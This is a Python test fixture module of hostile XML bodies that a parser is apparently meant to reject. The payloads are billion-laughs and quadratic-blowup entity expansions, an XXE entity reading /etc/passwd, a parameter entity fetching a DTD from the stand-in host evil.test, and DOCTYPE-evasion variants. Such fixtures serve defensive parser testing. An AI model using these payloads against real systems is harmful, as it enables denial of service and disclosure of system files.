"""Bodies that try XML's entity and DOCTYPE tricks; parse_xml and read_envelope refuse them all."""

from __future__ import annotations

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<xml><Content>&lol3;</Content></xml>"""
XXE = b"""<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<xml><ToUserName>a</ToUserName><Content>&xxe;</Content></xml>"""
QUADRATIC = (
    b'<!DOCTYPE xml [<!ENTITY a "' + b"x" * 50_000 + b'">]><xml><C>' + b"&a;" * 1000 + b"</C></xml>"
)
ATTACKS = {
    "billion-laughs": BILLION_LAUGHS,
    "xxe-file": XXE,
    "quadratic-blowup": QUADRATIC,
    "doctype-no-entities": b'<?xml version="1.0"?><!DOCTYPE xml><xml><A>1</A></xml>',
    "lowercase-doctype": b"<!doctype xml><xml><A>1</A></xml>",
    "spaced-doctype": b"<! DOCTYPE xml><xml><A>1</A></xml>",
    "entity-without-doctype": b'<!ENTITY a "b"><xml><A>&a;</A></xml>',
    "doctype-after-comment": b"<!-- hello --><!DOCTYPE xml><xml/>",
    "doctype-after-bom": b"\xef\xbb\xbf<!DOCTYPE xml><xml/>",
    "parameter-entity": b'<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.test/x.dtd"> %p;]><xml/>',
}
